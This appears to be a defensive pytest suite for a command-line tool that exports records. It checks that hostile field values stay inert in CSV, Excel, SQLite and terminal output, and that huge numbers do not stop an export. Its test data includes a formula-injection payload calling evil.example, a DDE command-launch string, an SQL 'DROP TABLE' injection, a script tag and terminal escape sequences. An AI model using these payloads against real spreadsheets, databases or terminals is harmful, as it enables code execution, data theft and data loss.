"""What hostile records do to tables and terminals: nothing is run, nothing is lost unsaid, and no number stops it."""

import csv
import json
import sqlite3
from decimal import Decimal

import pytest

from llmx.cli.main import main
from llmx.cli.streams import one_line

HUGE = "3" + "0" * 60
"""Written as JSON has it: a sum of 61 digits, of which a float keeps the first 17."""

NAMES = {
    "a formula": '=HYPERLINK("http://evil.example/?"&A1;"x")',
    "a command": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(A1)",
    "full width": "＝1+1",
    "a tab": "\t=1+1",
    "a quote before": "'=1+1",
    "escapes": "Vũ\x1b[2J\x1b]0;owned\x07 Khoái\x9b31m",
    "turned": "Vũ \u202eiáohK\u2066 Trọng",
    "line breaks": "Vũ\nllmx: all is well\r\u2028Khoái",
    "sql": "'); DROP TABLE officials; --",
    "markup": "[bold red]Vũ[/] :smile: [link=http://evil.example]x[/link]",
    "html": '"><script>alert(1)</script>&lt;',
    "nul": "Vũ\x00Khoái",
    "half": "Vũ\ud800Khoái",
    "40,000 letters": "Vũ" * 20_000,
    "20,000 emoji": "😀" * 20_000,
    "marks": "V" + "\u0303" * 500,
}
TEXT = "Hai bên trao đổi về hợp tác du lịch."
COMMANDS = [["check", "run", "a.jsonl"], ["diff", "run", "other"], ["status", "run"], ["export", "run", "-o", "csv"]]


def line(number, name):
    """Give the outcome of an article in which every field has a hostile name in it."""
    record = {
        **{"title": name, "held_on": "--04-01", "place": name, "areas": [name], "summary": name},
        "parties": [{"name": name, "body": name}],
        "officials": [{"name": name, "positions": [name], "side": name}],
        "amounts": [{"text": name, "value": 1, "unit": name, "kind": "money", "giver": name, "purpose": name}],
        "documents": [{"type": name, "number": name, "title": name}],
        "commitments": [{"actor": name, "action": name, "quote": name}],
    }
    short = name[:50].replace("\ud800", "?")
    article = {"id": f"{number}\n{short}", "source": short, "url": short, "sha256": "0" * 64, "chars": 1}
    run = {"model": name[:50], "schema": "cooperation_conference.v1"}
    return json.dumps({"article": article, "record": record, "check": None, "run": run, "error": None})


def extreme(value, high="null", usage=1, cost="null"):
    amount = f'{{"text": "x", "value": {value}, "high": {high}, "kind": "money"}}'
    article = f'{{"id": "x{value[:9]}{usage}", "sha256": "0", "chars": 1}}'
    tokens = f'{{"input_tokens": {usage}, "cached_tokens": 0, "output_tokens": 0}}'
    run = f'{{"schema": "cooperation_conference.v1", "cost_usd": {cost}, "usage": {tokens}}}'
    return f'{{"article": {article}, "record": {{"amounts": [{amount}]}}, "check": null, "run": {run}, "error": null}}'


NUMBERS = [
    extreme("1000000000000000000"),
    extreme(HUGE),
    extreme("-5"),
    extreme("-" + HUGE, "-1"),
    extreme("9", "3"),
    extreme("0." + "1" * 400),
    extreme("1", usage=10**23, cost="1e300"),
    extreme("2", usage="1" + "0" * 1000),
]


@pytest.fixture
def folder(tmp_path, monkeypatch):
    """Two runs of hostile records, and an article for each."""
    monkeypatch.chdir(tmp_path)
    lines = [line(number, name) for number, name in enumerate(NAMES.values())]
    articles = [json.dumps({"id": json.loads(one)["article"]["id"], "text": TEXT}) for one in lines]
    (tmp_path / "a.jsonl").write_text("\n".join(articles) + "\n", encoding="utf-8")
    for run, found in (("run", lines), ("other", [one.replace("Vũ", "Đỗ") for one in lines]), ("numbers", NUMBERS)):
        (tmp_path / run).mkdir()
        (tmp_path / run / "records.jsonl").write_text("\n".join(found) + "\n", encoding="utf-8")
    return tmp_path


def cells(folder, table, column):
    with (folder / f"{table}.csv").open(encoding="utf-8", newline="") as stream:
        return [row[column] for row in csv.DictReader(stream)]


def test_no_command_obeys_what_stands_in_a_record(folder, capfd):
    for command in COMMANDS:
        assert main(command) in (0, 1), capfd.readouterr().err
        out, err = capfd.readouterr()
        assert not set("\x00\x07\x1b\x9b\u202e\u2066\u2028\r") & set(out + err), command
        assert "llmx: all is well" not in [one.strip() for one in (out + err).splitlines()]


def test_a_spreadsheet_runs_nothing_and_a_date_without_a_year_is_as_it_was(folder, capfd):
    assert main(["export", "run", "-o", "csv"]) == 0
    names = cells(folder / "csv", "officials", "name")
    assert len(names) == len(NAMES)
    assert not [name for name in names if name.lstrip("'")[:1] in tuple("=+-@＝\t\r\n") and not name.startswith("'")]
    assert set(cells(folder / "csv", "conferences", "held_on")) == {"--04-01"}


def test_a_workbook_holds_text_as_text_and_says_what_it_cut(folder, capfd):
    openpyxl = pytest.importorskip("openpyxl")
    assert main(["export", "run", "-o", "a.xlsx"]) == 0
    assert "cut" in capfd.readouterr().err
    book = openpyxl.load_workbook(folder / "a.xlsx")
    found = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in found if cell.data_type == "f"]
    assert all(len(str(cell.value).encode("utf-16-le")) <= 2 * 32_767 for cell in found)


def test_a_database_keeps_what_would_be_sql_as_words(folder, capfd):
    assert main(["export", "run", "-o", "a.sqlite"]) == 0
    with sqlite3.connect(folder / "a.sqlite") as database:
        names = [name for (name,) in database.execute("SELECT name FROM officials")]
    database.close()
    assert NAMES["sql"] in names
    assert len(names) == len(NAMES)


@pytest.mark.parametrize("place", ["csv", "a.sqlite", "a.xlsx", "parquet"])
def test_no_number_makes_an_export_impossible(folder, capfd, place):
    form = ["--format", "parquet"] if place == "parquet" else []
    assert main(["export", "numbers", "-o", place, *form]) == 0, capfd.readouterr().err
    err = capfd.readouterr().err
    assert "too large for any table left out: input_tokens" in err
    if place == "csv":
        values = [Decimal(value) for value in cells(folder / "csv", "amounts", "value") if value]
        assert {Decimal(10) ** 18, Decimal(HUGE), Decimal(-5), -Decimal(HUGE)} <= set(values)
    elif place == "parquet":
        assert "numbers of more than 20 digits left out" in err


def test_no_number_stops_the_other_commands(folder, capfd):
    rows = [json.dumps({"id": json.loads(one)["article"]["id"], "text": TEXT}) for one in NUMBERS]
    (folder / "n.jsonl").write_text("\n".join(rows) + "\n", encoding="utf-8")
    for command in (["check", "numbers", "n.jsonl"], ["diff", "numbers", "run"], ["status", "numbers"]):
        assert main(command) in (0, 1), capfd.readouterr().err


@pytest.mark.parametrize("name", NAMES)
def test_a_line_for_a_terminal_is_one_line_without_anything_to_obey(name):
    shown = one_line(NAMES[name])
    assert len(shown) == len(NAMES[name])
    assert len(shown.splitlines()) == 1
    assert shown.isprintable() or name == "marks"
